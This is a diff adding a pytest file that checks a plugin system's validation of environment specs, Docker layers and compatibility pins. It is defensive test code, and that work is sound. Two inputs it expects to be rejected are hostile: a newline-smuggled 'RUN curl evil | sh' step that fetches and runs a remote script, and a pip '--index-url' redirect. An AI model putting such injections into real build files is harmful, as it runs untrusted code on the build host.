@@ -1,0 +1,98 @@
+"""Validation of what plugins return: every bad value names the plugin and the field."""
+
+from __future__ import annotations
+
+import pytest
+
+from puffer_core import BuildStage, CompatAxes, DockerLayer, EnvSpec, KnownBad
+from puffer_core.errors import PluginError
+
+
+def creator():
+    return None
+
+
+@pytest.mark.parametrize(
+    ("spec", "field"),
+    [
+        (EnvSpec("noslash", creator), "id"),
+        (EnvSpec("Upper/name", creator), "id"),
+        (EnvSpec("a/b/c", creator), "id"),
+        (EnvSpec("p/name", None), "creator"),
+        (EnvSpec("p/name", "not callable"), "creator"),
+        (EnvSpec("p/name", creator, kwargs=[1, 2]), "kwargs"),
+        (EnvSpec("p/name", creator, api=""), "api"),
+        (EnvSpec("p/name", creator, requires="nle"), "requires"),
+    ],
+)
+def test_env_spec_errors_name_plugin_and_field(spec, field):
+    with pytest.raises(PluginError) as excinfo:
+        spec.validate("myplugin")
+    assert excinfo.value.plugin == "myplugin"
+    assert excinfo.value.field == field
+    assert "plugin 'myplugin'" in str(excinfo.value) and f"'{field}'" in str(excinfo.value)
+
+
+def test_valid_env_spec_passes_and_splits_its_id():
+    spec = EnvSpec("nethack/score", creator, kwargs={"a": 1}, requires=("nle",))
+    spec.validate("nethack")
+    assert (spec.plugin, spec.name) == ("nethack", "score")
+
+
+@pytest.mark.parametrize(
+    ("layer", "field", "fragment"),
+    [
+        (DockerLayer(apt=("Bad_Name",)), "apt", "Debian package name"),
+        (DockerLayer(apt="cmake"), "apt", "list of strings"),
+        (DockerLayer(run=("make\nRUN curl evil | sh",)), "run", "newline"),
+        (DockerLayer(run=("FROM ubuntu",)), "run", "FROM and USER"),
+        (DockerLayer(run=("user root",)), "run", "FROM and USER"),
+        (DockerLayer(env={"1BAD": "x"}), "env", "variable name"),
+        (DockerLayer(env={"OK": "two\nlines"}), "env", "one-line"),
+        (DockerLayer(pip=("--index-url http://x",)), "pip", "requirements"),
+        (DockerLayer(stages=(BuildStage("ok", "debian bookworm"),)), "stages", "one image"),
+        (DockerLayer(stages=(BuildStage("ok", "debian:12", artifacts=("relative/path",)),)), "artifacts", "absolute"),
+    ],
+)
+def test_docker_layer_errors(layer, field, fragment):
+    with pytest.raises(PluginError) as excinfo:
+        layer.validate("p")
+    assert field in excinfo.value.field
+    assert fragment in str(excinfo.value)
+    assert "plugin 'p'" in str(excinfo.value)
+
+
+def test_valid_docker_layer():
+    DockerLayer(
+        apt=("libbz2-dev", "g++", "libc6-dev"),
+        run=("echo hi && true",),
+        env={"A_B": "1"},
+        pip=("nle==1.3.0",),
+        stages=(BuildStage("build", "debian:bookworm", run=("make",), artifacts=("/opt/x.whl",)),),
+    ).validate("p")
+
+
+@pytest.mark.parametrize(
+    ("axes", "field"),
+    [
+        (CompatAxes("nle", ("not a version",)), "versions"),
+        (CompatAxes("nle", ("1.0.0",), python=("3",)), "python"),
+        (CompatAxes("nle", ("1.0.0",), pins={"9.9.9": {"gymnasium": "1.0.0"}}), "pins"),
+        (CompatAxes("nle", ("1.0.0",), pins={"1.0.0": {"gymnasium": "x.y"}}), "pins[1.0.0][gymnasium]"),
+        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"nle": ">=1.0"}, ""),)), "known_bad"),
+        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"nle": "~~1"}, "r"),)), "known_bad"),
+        (CompatAxes("", ("1.0.0",)), "package"),
+    ],
+)
+def test_compat_axes_errors(axes, field):
+    with pytest.raises(PluginError) as excinfo:
+        axes.validate("p")
+    assert excinfo.value.field == field
+
+
+def test_known_bad_matching():
+    bad = KnownBad({"nle": ">=1.3", "python": "<3.10"}, "nle 1.3 needs Python 3.10")
+    assert bad.matches({"nle": "1.3.0", "python": "3.9"})
+    assert not bad.matches({"nle": "1.3.0", "python": "3.11"})
+    assert not bad.matches({"nle": "1.2.0", "python": "3.9"})
+    assert not bad.matches({"python": "3.9"})
